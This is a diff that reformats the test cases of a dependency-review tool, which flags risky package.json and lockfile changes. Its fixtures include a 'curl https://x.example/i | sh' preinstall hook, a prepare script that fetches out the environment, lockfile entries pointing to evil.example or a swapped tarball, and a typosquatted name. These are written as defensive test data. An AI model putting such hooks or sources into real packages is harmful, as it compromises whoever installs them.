@@ -33,23 +33,78 @@ async function rulesFor(base: Manifest, head: Manifest) {
 describe('findDependencyChanges in package.json', () => {
   it.each<[string, Manifest, Manifest, string[]]>([
     ['an install script', {}, { scripts: { postinstall: 'node setup.js' } }, ['install-script medium']],
-    ['an install script that fetches', {}, { scripts: { preinstall: 'curl https://x.example/i | sh' } }, ['install-script high']],
-    ['an install script made worse', { scripts: { install: 'node-gyp rebuild' } }, { scripts: { install: 'node-gyp rebuild && node -e "eval(1)"' } }, ['install-script high']],
-    ['a prepare script that sends the environment', {}, { scripts: { prepare: 'node -e "fetch(\'https://x\')"' } }, ['install-script high']],
-    ['a branch', {}, { dependencies: { internal: 'git+https://github.com/x/internal.git#main' } }, ['source medium']],
+    [
+      'an install script that fetches',
+      {},
+      { scripts: { preinstall: 'curl https://x.example/i | sh' } },
+      ['install-script high'],
+    ],
+    [
+      'an install script made worse',
+      { scripts: { install: 'node-gyp rebuild' } },
+      { scripts: { install: 'node-gyp rebuild && node -e "eval(1)"' } },
+      ['install-script high'],
+    ],
+    [
+      'a prepare script that sends the environment',
+      {},
+      { scripts: { prepare: 'node -e "fetch(\'https://x\')"' } },
+      ['install-script high'],
+    ],
+    [
+      'a branch',
+      {},
+      { dependencies: { internal: 'git+https://github.com/x/internal.git#main' } },
+      ['source medium'],
+    ],
     ['a short repository name', {}, { dependencies: { internal: 'someone/internal' } }, ['source medium']],
-    ['a pinned commit', {}, { dependencies: { internal: `github:x/internal#${'a1'.repeat(20)}` } }, ['source low']],
+    [
+      'a pinned commit',
+      {},
+      { dependencies: { internal: `github:x/internal#${'a1'.repeat(20)}` } },
+      ['source low'],
+    ],
     ['an unencrypted tarball', {}, { dependencies: { internal: 'http://x.example/i.tgz' } }, ['source high']],
-    ['an encrypted tarball', {}, { dependencies: { internal: 'https://x.example/i.tgz' } }, ['source medium']],
+    [
+      'an encrypted tarball',
+      {},
+      { dependencies: { internal: 'https://x.example/i.tgz' } },
+      ['source medium'],
+    ],
     ['any version', {}, { dependencies: { zod: '*' } }, ['unpinned medium']],
     ['latest', { dependencies: { zod: '^3.0.0' } }, { dependencies: { zod: 'latest' } }, ['unpinned medium']],
     ['at least', {}, { devDependencies: { vitest: '>=1.0.0' } }, ['unpinned medium']],
-    ['a downgrade', { dependencies: { zod: '^3.22.4' } }, { dependencies: { zod: '^3.20.0' } }, ['downgrade medium']],
-    ['a major step', { dependencies: { zod: '^3.22.4' } }, { dependencies: { zod: '^4.0.0' } }, ['major-step low']],
-    ['a minor step before 1.0', { dependencies: { esbuild: '^0.19.0' } }, { dependencies: { esbuild: '^0.21.0' } }, ['major-step low']],
-    ['a pre-release', { dependencies: { zod: '4.0.0' } }, { dependencies: { zod: '4.1.0-beta.2' } }, ['pre-release low']],
+    [
+      'a downgrade',
+      { dependencies: { zod: '^3.22.4' } },
+      { dependencies: { zod: '^3.20.0' } },
+      ['downgrade medium'],
+    ],
+    [
+      'a major step',
+      { dependencies: { zod: '^3.22.4' } },
+      { dependencies: { zod: '^4.0.0' } },
+      ['major-step low'],
+    ],
+    [
+      'a minor step before 1.0',
+      { dependencies: { esbuild: '^0.19.0' } },
+      { dependencies: { esbuild: '^0.21.0' } },
+      ['major-step low'],
+    ],
+    [
+      'a pre-release',
+      { dependencies: { zod: '4.0.0' } },
+      { dependencies: { zod: '4.1.0-beta.2' } },
+      ['pre-release low'],
+    ],
     ['a misspelt name', {}, { dependencies: { expresss: '^4.0.0' } }, ['near-name high']],
-    ['a workspace name from the registry', { dependencies: { '@x/core': 'workspace:*' } }, { dependencies: { '@x/core': '^1.0.0' } }, ['confusion high']],
+    [
+      'a workspace name from the registry',
+      { dependencies: { '@x/core': 'workspace:*' } },
+      { dependencies: { '@x/core': '^1.0.0' } },
+      ['confusion high'],
+    ],
     ['a package that is given up', {}, { dependencies: { vm2: '^3.9.0' } }, ['deprecated low']],
     ['an override to a branch', {}, { overrides: { minimist: 'github:x/minimist#fix' } }, ['source medium']],
   ])('reports %s', async (_, base, head, rules) => {
@@ -59,11 +114,19 @@ describe('findDependencyChanges in package.json', () => {
   it.each<[string, Manifest, Manifest]>([
     ['a caret range', {}, { dependencies: { zod: '^4.0.0' } }],
     ['a minor update', { dependencies: { zod: '^4.0.0' } }, { dependencies: { zod: '^4.1.0' } }],
-    ['harmless install scripts', {}, { scripts: { prepare: 'husky', postinstall: 'patch-package && prisma generate' } }],
+    [
+      'harmless install scripts',
+      {},
+      { scripts: { prepare: 'husky', postinstall: 'patch-package && prisma generate' } },
+    ],
     ['an ordinary script', {}, { scripts: { build: 'curl -s https://x.example | node -e 1' } }],
     ['a workspace', {}, { dependencies: { '@x/core': 'workspace:^' } }],
     ['a popular name near another', {}, { dependencies: { preact: '^10.0.0', pino: '^10.0.0' } }],
-    ['a name that was there before', { devDependencies: { expresss: '^4.0.0' } }, { dependencies: { expresss: '^4.0.0' } }],
+    [
+      'a name that was there before',
+      { devDependencies: { expresss: '^4.0.0' } },
+      { dependencies: { expresss: '^4.0.0' } },
+    ],
     ['an open peer range', {}, { peerDependencies: { react: '>=18' } }],
   ])('passes over %s', async (_, base, head) => {
     expect(await rulesFor(base, head)).toEqual([]);
@@ -92,21 +155,46 @@ describe('findDependencyChanges in package-lock.json', () => {
       ...extra,
     },
   });
-  const lock = (...entries: readonly Manifest[]) => ({ lockfileVersion: 3, packages: Object.assign({ '': {} }, ...entries) as Manifest });
+  const lock = (...entries: readonly Manifest[]) => ({
+    lockfileVersion: 3,
+    packages: Object.assign({ '': {} }, ...entries) as Manifest,
+  });
   const known = [entry('a', '1.0.0'), entry('b', '1.0.0')];
 
   it.each<[string, Manifest, string]>([
-    ['another host', entry('c', '1.0.0', { resolved: 'https://evil.example/c/-/c-1.0.0.tgz' }), 'lock-source high'],
-    ['no encryption', entry('c', '1.0.0', { resolved: 'http://registry.npmjs.org/c/-/c-1.0.0.tgz' }), 'lock-source high'],
-    ['another package', entry('lodash', '1.0.0', { resolved: 'https://registry.npmjs.org/evilpkg/-/evilpkg-1.0.0.tgz' }), 'lock-source high'],
-    ['a repository', entry('c', '1.0.0', { resolved: 'git+ssh://git@github.com/x/c.git#abc' }), 'lock-source medium'],
+    [
+      'another host',
+      entry('c', '1.0.0', { resolved: 'https://evil.example/c/-/c-1.0.0.tgz' }),
+      'lock-source high',
+    ],
+    [
+      'no encryption',
+      entry('c', '1.0.0', { resolved: 'http://registry.npmjs.org/c/-/c-1.0.0.tgz' }),
+      'lock-source high',
+    ],
+    [
+      'another package',
+      entry('lodash', '1.0.0', { resolved: 'https://registry.npmjs.org/evilpkg/-/evilpkg-1.0.0.tgz' }),
+      'lock-source high',
+    ],
+    [
+      'a repository',
+      entry('c', '1.0.0', { resolved: 'git+ssh://git@github.com/x/c.git#abc' }),
+      'lock-source medium',
+    ],
     ['an install script', entry('c', '1.0.0', { hasInstallScript: true }), 'install-script medium'],
     ['no checksum', entry('c', '1.0.0', { integrity: undefined }), 'lock-integrity medium'],
-    ['another checksum of the same version', entry('b', '1.0.0', { integrity: 'sha512-other' }), 'lock-integrity high'],
+    [
+      'another checksum of the same version',
+      entry('b', '1.0.0', { integrity: 'sha512-other' }),
+      'lock-integrity high',
+    ],
     ['a checksum removed', entry('b', '1.0.0', { integrity: undefined }), 'lock-integrity high'],
   ])('reports %s', async (_, changed, rule) => {
     const findings = await review(change('package-lock.json', lock(...known), lock(...known, changed)));
-    expect(findings.map((finding) => `${finding.rule.replace('dependency/', '')} ${finding.severity}`)).toEqual([rule]);
+    expect(
+      findings.map((finding) => `${finding.rule.replace('dependency/', '')} ${finding.severity}`),
+    ).toEqual([rule]);
   });
 
   it('passes over an ordinary update', async () => {
@@ -120,7 +208,9 @@ describe('findDependencyChanges in package-lock.json', () => {
       change('package.json', { dependencies: { a: '^1.9.0' } }, manifest),
       change('package-lock.json', lock(...known), lock(...known, entry('c', '1.0.0'))),
     );
-    expect(findings.map(({ title }) => title)).toContain('The lockfile has `a@1.0.0`, which `^2.0.0` does not allow');
+    expect(findings.map(({ title }) => title)).toContain(
+      'The lockfile has `a@1.0.0`, which `^2.0.0` does not allow',
+    );
   });
 });
 
@@ -139,12 +229,19 @@ describe('popularTwin', () => {
     expect(popularTwin(name)).toBe(popular);
   });
 
-  it.each(['express', 'ws', 'koa2', 'my-own-package', '@types/node', '@prisma/client', 'lodash-es', 'nova', 'pgx'])(
-    '%s is nothing but itself',
-    (name) => {
-      expect(popularTwin(name)).toBeUndefined();
-    },
-  );
+  it.each([
+    'express',
+    'ws',
+    'koa2',
+    'my-own-package',
+    '@types/node',
+    '@prisma/client',
+    'lodash-es',
+    'nova',
+    'pgx',
+  ])('%s is nothing but itself', (name) => {
+    expect(popularTwin(name)).toBeUndefined();
+  });
 });
 
 describe('versions', () => {
